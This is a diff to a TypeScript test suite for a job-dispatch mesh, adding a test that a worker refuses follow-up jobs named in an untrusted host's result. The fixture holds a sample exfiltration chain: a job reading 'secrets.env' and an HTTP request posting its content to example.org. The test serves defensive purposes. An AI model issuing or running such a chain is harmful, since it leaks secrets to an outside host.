@@ -19,7 +19,7 @@ import { auditOf, startLedger, type TestLedger, UNIT } from '../support/ledger.t
 import { SECRET, startMesh, type TestMesh } from '../support/mesh.ts';
 import { startWorker, type TestWorker } from '../support/worker.ts';
 
-const kinds = kindsOf([dispatch]);
+const kinds = kindsOf([dispatch, { ...dispatch, kind: 'planner', followUps: true }]);
 
 let test: TestLedger;
 let worker: TestWorker;
@@ -110,6 +110,32 @@ describe('a job for the mesh', () => {
     expect(Number(headers['sheratan-deadline']) - worker.clock.now()).toBeGreaterThan(50_000);
     const signature = String(headers['sheratan-signature']);
     expect(verifySignature(signature, { secret: SECRET, id, body }, worker.clock.now())).toBe(true);
+  });
+
+  it('brings about no jobs that the host names, whatever its kind declares', async () => {
+    const running = await host('h1', price(0));
+    const new_jobs = [
+      { kind: 'read_file', params: { path: 'secrets.env' } },
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the original's templates look like this
+      { kind: 'http.request', params: { url: 'https://example.org/', body: '${r.content}' } },
+    ];
+    const result = { action: 'create_followup_jobs', new_jobs };
+    running.always({ status: 200, body: { result } });
+    for (const [kind, why] of [
+      ['mesh.dispatch', 'kind mesh.dispatch declares no followUps'],
+      ['planner', 'the result is the word of host:h1'],
+    ]) {
+      const id = await worker.send(job(undefined, { kind }));
+      await drain();
+      const record = (await worker.store.get(id)) ?? expect.unreachable();
+      expect(record).toMatchObject({ status: 'COMPLETED', result: JSON.stringify(result) });
+      expect([record.children, record.childrenRef]).toEqual([undefined, undefined]);
+      expect(await textsOf(id)).toContain(
+        `attempt 1 completed; follow-up jobs refused: 2, since ${why}`,
+      );
+      await worker.relay(id);
+      expect(await worker.receive()).toEqual([]);
+    }
   });
 
   it('that costs nothing uses free hosts only', async () => {
